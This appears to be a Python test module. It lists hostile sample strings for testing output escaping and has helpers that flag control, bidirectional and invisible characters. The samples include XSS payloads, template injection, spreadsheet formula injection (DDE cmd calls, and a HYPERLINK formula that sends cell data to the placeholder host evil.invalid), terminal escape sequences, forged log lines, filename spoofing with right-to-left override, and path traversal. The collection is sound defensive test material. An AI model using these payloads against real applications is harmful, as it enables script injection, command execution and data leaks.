"""Texts made to harm whoever opens, prints or reads them, and what is looked for in an output."""

import unicodedata

HOST = "evil.invalid"
RAN = "RAN"
"""What a page is called once a script of others ran in it."""
LONG = 100_000


def hostile(mark: str) -> dict[str, str]:
    """The texts by kind.  Each holds `mark`, so that a test can tell where the text came from."""
    return {
        "script": f"{mark}<script>document.title='{RAN}'</script>",
        "image": f"\"'><img src=//{HOST}/i onerror=\"document.title='{RAN}'\">{mark}",
        "svg": f"{mark}</style></title></svg><svg onload=document.title='{RAN}'>",
        "template": f"{mark}{{{{ 7*7 }}}}{{% raw %}}{{#",
        "hyperlink": f'=HYPERLINK("http://{HOST}/?"&A1,"{mark}")',
        "dde": f"+cmd|'/c calc'!A1 {mark}",
        "at": f"@SUM(1+1)*cmd|'/c calc'!A1 {mark}",
        "minus": f"-2+3+cmd|'/c calc'!A1 {mark}",
        "tab": f"\t=1+1 {mark}",
        "wide": f"\uff1d2+2 {mark}",
        "unseen": f"\u200b=3+3 {mark}",
        "quotes": f'",=1+1 {mark},"',
        "markdown": f"[{mark}](http://{HOST}/l) ![x](http://{HOST}/m)",
        "address": f"http://{HOST}/{mark}",
        "note mark": f"{mark} $$1$$ and $$",
        "rich text": f"<r><t>{mark}</t></other></r>",
        "title": f"{mark}\x1b]0;owned\x07",
        "screen": f"{mark}\x1b[2J\x1b[1;1H\x1b[8m",
        "of one byte": f"{mark}\x9b31m\x9d0;owned\x9c\x85",
        "back": f"{mark} 4\x08\x08\x07\x0b\x0c\x7f",
        "return": f"{mark} 1\rlscb: forged",
        "newline": f"{mark} 2\nlscb: forged",
        "separator": f"{mark} 3\u2028lscb: forged\u2029",
        "override": f"{mark}\u202efdp.exe\u202d\u202a",
        "isolate": f"{mark}\u2066\u2067\u2068 abc",
        "hebrew": f"{mark} \u05e9\u05dc\u05d5\u05dd (1)",
        "zero width": f"{mark} 5\u200b\u2060\ufeff\u206a",
        "stacked": f"{mark}z" + "\u0301\u0302\u0303\u0304" * 40,
        "no characters": f"{mark} 6\ufffe\uffff\U000e0041",
        "climbing": f"../../{mark}",
        "reserved": f"{mark}:CON. ",
        "long": f"{mark} " + "lengthy " * (LONG // 8),
    }


def steering(text: str) -> set[str]:
    """The characters in a text that steer what shows it, turn round what stands beside them or
    can't be saved, by name; line feed and tab are none, nor what joins letters."""
    return {_name(each) for each in set(text) if _is_steering(each)}


def not_printable(text: str) -> set[str]:
    """What may not go to a terminal: all that a reader does not see, but for the line feed."""
    return {_name(each) for each in set(text) - {"\n"} if not each.isprintable()}


def _is_steering(char: str) -> bool:
    if unicodedata.category(char) in ("Cc", "Cs", "Cn", "Zl", "Zp"):
        return char not in "\n\t"
    turns = unicodedata.bidirectional(char) in (
        "LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI",
    )  # fmt: skip
    return turns or char in "\u200b\u2060\ufeff\u206a" or "\U000e0000" <= char <= "\U000e007f"


def _name(char: str) -> str:
    return unicodedata.name(char, f"U+{ord(char):04X}")
